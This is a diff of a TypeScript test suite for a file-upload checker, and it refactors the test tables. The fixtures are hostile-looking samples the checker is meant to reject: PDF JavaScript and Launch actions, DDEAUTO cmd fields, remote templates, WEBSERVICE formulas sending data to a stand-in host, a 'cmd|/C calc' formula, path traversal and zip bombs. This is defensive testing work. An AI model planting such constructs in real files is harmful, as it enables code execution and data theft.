@@ -23,6 +23,19 @@ const said = (name: string, bytes: Uint8Array) => {
 }
 
 type Case = [what: string, name: string, bytes: Uint8Array, said: string]
+type Named = [what: string, bytes: Uint8Array, said: string]
+
+/** A table of files, each with a name of its own. */
+const judged = (title: string, cases: readonly Case[], within?: number) =>
+  describe(title, () =>
+    test.each(cases)('%s', (_, name, bytes, expected) => expect(said(name, bytes)).toBe(expected), within),
+  )
+/** A table of files that have the same name. */
+const judgedAs = (title: string, name: string, cases: readonly Named[]) =>
+  judged(
+    title,
+    cases.map(([what, bytes, expected]) => [what, name, bytes, expected]),
+  )
 
 describe('what is kept', () => {
   const link = `<Relationship Id="rId9" Type="${relations}/hyperlink" Target="https://kaikukortti.example/" TargetMode="External"/>`
@@ -47,7 +60,7 @@ describe('what is kept', () => {
     ['text', 'Teksti.txt', utf8('Kaikukortti – hyvä näin. 1 < 2'), 'txt'],
     ['a table', 'taulu.csv', utf8('kunta;lippuja\nKuhmo;-12\n'), 'csv'],
   ]
-  test.each(cases)('%s', (_, name, bytes, kind) => expect(said(name, bytes)).toBe(kind))
+  judged('of each kind', cases)
 
   test('what our own program prints', async () => {
     const template = new URL('../lib/sample.typ', import.meta.url)
@@ -65,7 +78,7 @@ describe('what is kept', () => {
   })
 })
 
-describe('a name', () => {
+{
   const pdf = pdfOf()
   const cases: Case[] = [
     ['with a path', '../../etc/juliste.pdf', pdf, 'name-path'],
@@ -79,63 +92,56 @@ describe('a name', () => {
     ['of a program', 'juliste.exe', pdf, 'ending'],
     ['without an end', 'juliste', pdf, 'ending'],
   ]
-  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
-})
+  judged('a name', cases)
+}
 
-describe('a document', () => {
+{
   const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
   const inside = (objects: string) => packedStream('/Type /ObjStm /N 1 /First 4', `9 0 ${objects}`)
-  const cases: Case[] = [
-    ['with a script', 'a.pdf', pdfOf(script), 'pdf-script'],
-    ['with its name in numbers', 'a.pdf', pdfOf('<< /S /J#61vaScript >>'), 'pdf-script'],
-    ['with a short name and a comment', 'a.pdf', pdfOf('<< /JS%x\n(app.alert) >>'), 'pdf-script'],
-    ['with a packed script', 'a.pdf', pdfOf(inside(script)), 'pdf-script'],
-    ['with a form of its own', 'a.pdf', pdfOf('<< /XFA 4 0 R >>'), 'pdf-script'],
-    ['with a file in it', 'a.pdf', pdfOf('<< /Type /Filespec /EF << /F 4 0 R >> >>'), 'pdf-embedded'],
-    ['with a packed list of files', 'a.pdf', pdfOf(inside('<< /EmbeddedFiles 4 0 R >>')), 'pdf-embedded'],
-    ['that starts a program', 'a.pdf', pdfOf('<< /S /Launch /F (cmd.exe) >>'), 'pdf-launch'],
-    ['that opens another', 'a.pdf', pdfOf('<< /S /GoToR /F (\\\\paha.example\\x) >>'), 'pdf-launch'],
-    ['that is locked', 'a.pdf', pdfOf('<< /Encrypt 7 0 R >>'), 'pdf-encrypted'],
+  const cases: Named[] = [
+    ['with a script', pdfOf(script), 'pdf-script'],
+    ['with its name in numbers', pdfOf('<< /S /J#61vaScript >>'), 'pdf-script'],
+    ['with a short name and a comment', pdfOf('<< /JS%x\n(app.alert) >>'), 'pdf-script'],
+    ['with a packed script', pdfOf(inside(script)), 'pdf-script'],
+    ['with a form of its own', pdfOf('<< /XFA 4 0 R >>'), 'pdf-script'],
+    ['with a file in it', pdfOf('<< /Type /Filespec /EF << /F 4 0 R >> >>'), 'pdf-embedded'],
+    ['with a packed list of files', pdfOf(inside('<< /EmbeddedFiles 4 0 R >>')), 'pdf-embedded'],
+    ['that starts a program', pdfOf('<< /S /Launch /F (cmd.exe) >>'), 'pdf-launch'],
+    ['that opens another', pdfOf('<< /S /GoToR /F (\\\\paha.example\\x) >>'), 'pdf-launch'],
+    ['with a remark', pdfOf('<< /Type /Annot /Subtype /Text /T (Aino Esimerkki) >>'), 'comments'],
+    ['that is locked', pdfOf('<< /Encrypt 7 0 R >>'), 'pdf-encrypted'],
     [
       'whose objects are packed in another way',
-      'a.pdf',
       pdfOf('<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n39>\nendstream'),
       'pdf-unreadable',
     ],
-    ['with a short name and a number', 'a.pdf', pdfOf('<< /JS 12 0 R >>'), 'pdf-script'],
-    ['that is cut off', 'a.pdf', pdfOf().subarray(0, 60), 'broken'],
-    ['that goes on after its end', 'a.pdf', join(pdfOf(), '<script>alert(1)</script>'), 'broken'],
-    ['after a page', 'a.pdf', join('<html><script>alert(1)</script>', pdfOf()), 'html'],
-    ['after something else', 'a.pdf', join('GIF89a  ', pdfOf()), 'two-kinds'],
-    ['that is a page', 'a.pdf', utf8('<!DOCTYPE html><p>Hei'), 'html'],
-    [
-      'that is an archive too',
-      'a.pdf',
-      pdfOf(Buffer.from(zipOf({ 'a.class': 'x' })).toString('latin1')),
-      'two-kinds',
-    ],
+    ['with a short name and a number', pdfOf('<< /JS 12 0 R >>'), 'pdf-script'],
+    ['that is cut off', pdfOf().subarray(0, 60), 'broken'],
+    ['that goes on after its end', join(pdfOf(), '<script>alert(1)</script>'), 'broken'],
+    ['after a page', join('<html><script>alert(1)</script>', pdfOf()), 'html'],
+    ['after something else', join('GIF89a  ', pdfOf()), 'two-kinds'],
+    ['that is a page', utf8('<!DOCTYPE html><p>Hei'), 'html'],
+    ['that is an archive too', pdfOf(Buffer.from(zipOf({ 'a.class': 'x' })).toString('latin1')), 'two-kinds'],
     [
       'that unpacks without end',
-      'a.pdf',
       pdfOf(packedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(40_000_000))),
       'pdf-unreadable',
     ],
   ]
-  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
-})
+  judgedAs('a document', 'a.pdf', cases)
+}
 
-describe('a text document', () => {
+{
   const rels = (relationship: string) => docxOf({ 'word/_rels/document.xml.rels': relsOf(relationship) })
   const field = (...codes: string[]) =>
     docxOf({
       'word/document.xml': `<w:document>${codes.map((code) => `<w:instrText xml:space="preserve">${code}</w:instrText>`).join('')}</w:document>`,
     })
   const utf16 = Buffer.from(`\uFEFF${relsOf()}`, 'utf16le')
-  const cases: Case[] = [
-    ['with a macro', 'a.docx', docxOf({ 'word/vbaProject.bin': 'x' }), 'macro'],
+  const cases: Named[] = [
+    ['with a macro', docxOf({ 'word/vbaProject.bin': 'x' }), 'macro'],
     [
       'of a kind that has macros',
-      'a.docx',
       docxOf({
         '[Content_Types].xml': typesOf('application/vnd.ms-word.document.macroEnabled.main+xml'),
       }),
@@ -143,15 +149,13 @@ describe('a text document', () => {
     ],
     [
       'whose pattern lies elsewhere',
-      'a.docx',
       rels(
         `<Relationship Id="r" Type="${relations}/attachedTemplate" Target="http://paha.example/x.dotm" TargetMode="&#69;xternal"/>`,
       ),
-      'outside',
+      'template',
     ],
     [
       'with a link to a program',
-      'a.docx',
       rels(
         `<Relationship Id="r" Type="${relations}/hyperlink" Target="file://server/x.exe" TargetMode="External"/>`,
       ),
@@ -159,70 +163,95 @@ describe('a text document', () => {
     ],
     [
       'whose pattern hides behind another value',
-      'a.docx',
       rels(
         `<Relationship Id="a>b" Type="${relations}/attachedTemplate" TargetMode="External" ä=" TargetMode='Internal'" Target="http://paha.example/x.dotm"/>`,
       ),
-      'outside',
+      'template',
     ],
     [
       'whose pattern has a prefix of its own',
-      'a.docx',
       rels(
         `<ä:Relationship xmlns:ä="x" Id="a" Type="${relations}/attachedTemplate" TargetMode="External" Target="http://paha.example/x.dotm"/>`,
       ),
+      'template',
+    ],
+    [
+      'with a picture by its address',
+      docxOf({ 'word/vmlDrawing1.vml': '<v:imagedata src="http://paha.example/x.png"/>' }),
       'outside',
     ],
-    ['that starts a program', 'a.docx', field(' DD', 'EAUTO cmd '), 'outside'],
-    ['that starts one in small letters', 'a.docx', field(' ddeauto cmd '), 'outside'],
-    ['that starts one in numbers', 'a.docx', field(' DDE&#65;UTO cmd '), 'outside'],
+    [
+      'with one by its server',
+      docxOf({ 'word/document.xml': '<v:fill o:href="&#92;&#92;paha.example/x.png"/>' }),
+      'outside',
+    ],
+    [
+      'with a picture by its part',
+      docxOf({ 'word/document.xml': '<v:imagedata r:id="rId1" o:title="a: b"/>' }),
+      'docx',
+    ],
+    [
+      'with drawings that hold a script',
+      docxOf({ 'word/media/a.svg': Buffer.from(svgOf('<script/>')) }),
+      'svg-script',
+    ],
+    [
+      'that is filled from a list',
+      docxOf({ 'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>' }),
+      'outside',
+    ],
+    [
+      'with edits that wait',
+      docxOf({ 'word/document.xml': '<w:ins w:id="1" w:author="Aino Esimerkki"/>' }),
+      'comments',
+    ],
+    [
+      'with remarks',
+      docxOf({ 'word/comments.xml': '<w:comments><w:comment w:id="1" w:author="Aino"/></w:comments>' }),
+      'comments',
+    ],
+    ['with an empty list of remarks', docxOf({ 'word/comments.xml': '<w:comments/>' }), 'docx'],
+    ['that starts a program', field(' DD', 'EAUTO cmd '), 'outside'],
+    ['that starts one in small letters', field(' ddeauto cmd '), 'outside'],
+    ['that starts one in numbers', field(' DDE&#65;UTO cmd '), 'outside'],
     [
       'that starts one after another field',
-      'a.docx',
       field('PAGE</w:instrText><w:fldChar/><w:instrText>LINK a'),
       'outside',
     ],
-    ['with a comment in a field', 'a.docx', field('DDE<!-- -->AUTO cmd'), 'broken'],
+    ['with a comment in a field', field('DDE<!-- -->AUTO cmd'), 'broken'],
     [
       'with a field of another prefix',
-      'a.docx',
       docxOf({ 'word/document.xml': '<x:document><x:instrText>DDEAUTO cmd</x:instrText></x:document>' }),
       'outside',
     ],
     ...['WORD/header1.xml', 'other/header1.xml'].map(
-      (name): Case => [
+      (name): Named => [
         `with a field in ${name}`,
-        'a.docx',
         docxOf({
           [name]: '<w:hdr><w:instrText>INCLUDEPICTURE "http://paha.example/x.png"</w:instrText></w:hdr>',
         }),
         'outside',
       ],
     ),
-    ['with two lists', 'a.docx', docxOf({ '[content_types].xml': typesOf('x') }), 'not-office'],
-    ['with a program inside', 'a.docx', docxOf({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
-    ['with a page inside', 'a.docx', docxOf({ 'word/afchunk.mht': 'x' }), 'embedded'],
+    ['with two lists', docxOf({ '[content_types].xml': typesOf('x') }), 'not-office'],
+    ['with a program inside', docxOf({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
+    ['with a page inside', docxOf({ 'word/afchunk.mht': 'x' }), 'embedded'],
     [
       'with a table inside that has a macro',
-      'a.docx',
       docxOf({ 'word/embeddings/a.xlsx': Buffer.from(docxOf({ 'xl/vbaProject.bin': 'x' })) }),
       'macro',
     ],
-    [
-      'that defines words',
-      'a.docx',
-      docxOf({ 'word/x.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }),
-      'broken',
-    ],
-    ['in other letters', 'a.docx', docxOf({ 'word/_rels/document.xml.rels': utf16 }), 'broken'],
-    ['that is a mere archive', 'a.docx', zipOf({ 'readme.txt': 'x' }), 'not-office'],
-    ['that unpacks without end', 'a.docx', docxOf({ 'word/a.xml': Buffer.alloc(110_000_000) }), 'zip-bomb'],
-    ['that is cut off', 'a.docx', docxOf().subarray(0, 300), 'zip-bomb'],
+    ['that defines words', docxOf({ 'word/x.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), 'broken'],
+    ['in other letters', docxOf({ 'word/_rels/document.xml.rels': utf16 }), 'broken'],
+    ['that is a mere archive', zipOf({ 'readme.txt': 'x' }), 'not-office'],
+    ['that unpacks without end', docxOf({ 'word/a.xml': Buffer.alloc(110_000_000) }), 'zip-bomb'],
+    ['that is cut off', docxOf().subarray(0, 300), 'zip-bomb'],
   ]
-  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
-})
+  judgedAs('a text document', 'a.docx', cases)
+}
 
-describe('a picture', () => {
+{
   const png = pngOf(40, 20)
   const cases: Case[] = [
     ['that is cut off', 'a.png', png.subarray(0, png.length - 20), 'broken'],
@@ -236,8 +265,32 @@ describe('a picture', () => {
     ['of WebP with something after', 'a.webp', join(webpOf(9, 9), 'xx'), 'two-kinds'],
     ['of WebP that is large', 'a.webp', webpOf(16_000, 9), 'pixels'],
   ]
-  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
-})
+  judged('a picture', cases)
+}
+
+{
+  const sheet = (formula: string) =>
+    workbookOf([], `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`)
+  const formulas: [formula: string, said: string][] = [
+    ['SUM(B1:B9)*1.24', 'xlsx'],
+    ['IF(A1="IMAGE(x)|",1,0)', 'xlsx'],
+    ['Myynti[2026]+Kulut!A1', 'xlsx'],
+    ['HYPERLINK("https://kaikukortti.example/","Avaa")', 'xlsx'],
+    ['WEBSERVICE("http://paha.example/?"&amp;A1)', 'formula'],
+    ['1+_xlfn.webservice (A1)', 'formula'],
+    ['_xlfn.IMAGE("http://paha.example/x.png")', 'formula'],
+    ['&#73;MAGE(A1)', 'formula'],
+    ["cmd|'/C calc'!A0", 'formula'],
+    ['[1]Taul1!A1', 'formula'],
+    ["'http://paha.example/[a.xlsx]Taul1'!A1", 'formula'],
+    ['RTD("a","b","c")', 'formula'],
+  ]
+  judgedAs(
+    'a workbook with the formula',
+    'a.xlsx',
+    formulas.map(([formula, expected]) => [formula, sheet(formula), expected]),
+  )
+}
 
 describe('lines', () => {
   const laughs =
@@ -285,12 +338,12 @@ describe('lines', () => {
   test.each(cases)('with %s', (_, inside, problem, found) =>
     expect(checkFile('a.svg', svgOf(inside))).toEqual({ problem, found }),
   )
-  test.each<Case>([
+  judged('that', [
     ['that define words', 'a.svg', utf8(laughs), 'svg-entity'],
     ['that are not closed', 'a.svg', svgOf('<g>'), 'broken'],
     ['in other letters', 'a.svg', new Uint8Array(Buffer.from(`\uFEFF<svg/>`, 'utf16le')), 'broken'],
     ['that are a page', 'a.svg', utf8('<html><body onload="alert(1)"></html>'), 'svg-foreign'],
-  ])('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
+  ])
 })
 
 /** Each would take longer than anyone waits, did the time grow with the square of the size. */
@@ -302,10 +355,10 @@ describe('a file made to be read for ever', () => {
     ['of names', 'a.pdf', pdfOf('/JS%'.repeat(200_000)), 'pdf-script'],
     ['of fields', 'a.docx', docxOf({ 'word/document.xml': '<w:instrText '.repeat(300_000) }), 'broken'],
   ]
-  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem), 3_000)
+  judged('is told soon', cases, 3_000)
 })
 
-describe('text', () => {
+{
   const cases: Case[] = [
     ['that is a page', 'a.txt', utf8('Hei <script>alert(1)</script>'), 'html'],
     ['of no letters', 'a.txt', new Uint8Array([1, 2, 3, 255]), 'unknown'],
@@ -314,5 +367,5 @@ describe('text', () => {
     ['with a cell that counts in quotes', 'a.csv', utf8('a;b\n"@SUM(1)";2'), 'csv-formula'],
     ['larger than 10 MB', 'a.txt', new Uint8Array(10 * 1024 * 1024 + 1).fill(97), 'too-large'],
   ]
-  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
-})
+  judged('text', cases)
+}
